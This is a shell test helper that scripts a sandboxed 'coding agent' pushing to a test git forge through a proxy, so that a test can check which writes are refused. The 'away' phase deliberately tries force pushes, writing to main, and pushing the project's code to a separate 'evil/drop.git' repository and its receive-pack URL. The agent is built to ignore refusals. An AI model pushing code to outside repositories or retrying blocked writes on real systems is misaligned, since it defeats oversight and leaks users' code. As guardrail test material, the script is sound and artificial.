# The forge's scripted agent (tests/forge/forge_session_test.py): it runs each
# git or curl command through `bash -c`, as coding agents do, against the
# test's forge through the box's proxy, and writes what happened to
# $OUT/<step>.{code,out,err} (and the commits it made to $OUT/<step>.sha) for
# the test to judge. It never stops at a refusal. Run by the real /bin/sh.
# Usage: sh forge_agent.sh OUT_DIR FORGE PHASE
#   FORGE: git.forge.test:PORT; PHASE: away, watched or network.
out=$1 forge=$2 phase=$3
mkdir -p "$out"
step() {
  name=$1; shift
  "$@" >"$out/$name.out" 2>"$out/$name.err"
  echo $? >"$out/$name.code"
}
echo "$CORRAL_SESSION" >"$out/session"
env >"$out/env"
export GIT_AUTHOR_NAME=agent GIT_AUTHOR_EMAIL=agent@box GIT_COMMITTER_NAME=agent \
  GIT_COMMITTER_EMAIL=agent@box GIT_TERMINAL_PROMPT=0
project=https://$forge/me/proj.git
evil=https://$forge/evil/drop.git

# Over HTTPS, trusting the session's CA (SSL_CERT_FILE, GIT_SSL_CAINFO).
step clone bash -c "git clone -q $project /tmp/c && git -C /tmp/c rev-parse HEAD"
# A commit on top of HEAD, its id in $OUT/NAME.sha: `commit NAME` in a step.
commit='git commit -q --allow-empty -m "$0" && git rev-parse HEAD >"$1/$0.sha"'

case $phase in
away)
  # A new branch: allowed. Then the same branch rewritten and pushed with
  # --force, and the default branch written: the proxy refuses both.
  step push bash -c "cd /tmp/c && git checkout -qb agent && $commit && git push origin agent" push "$out"
  step force bash -c "cd /tmp/c && git reset -q --hard HEAD~1 && $commit && git push -f origin agent" force "$out"
  step main bash -c "cd /tmp/c && git push origin HEAD:main"
  # Another repository on the same host: no write reaches it.
  step evil bash -c "cd /tmp/c && git push $evil HEAD:refs/heads/drop"
  step curl bash -c "curl -sS --max-time 30 -o /dev/null -D '$out/curl.head' -w '%{http_code}' \
    '$evil/info/refs?service=git-receive-pack'"
  ;;
watched)
  # Somebody watches: the branch pushed while away, rewritten, goes through.
  step force bash -c "cd /tmp/c && git checkout -q agent && git reset -q --hard HEAD~1 && $commit && git push -f origin agent" force "$out"
  ;;
network)
  step push bash -c "cd /tmp/c && git checkout -qb net && $commit && git push origin net" push "$out"
  step force bash -c "cd /tmp/c && git reset -q --hard HEAD~1 && $commit && git push -f origin net" force "$out"
  ;;
esac
echo done >"$out/finished"
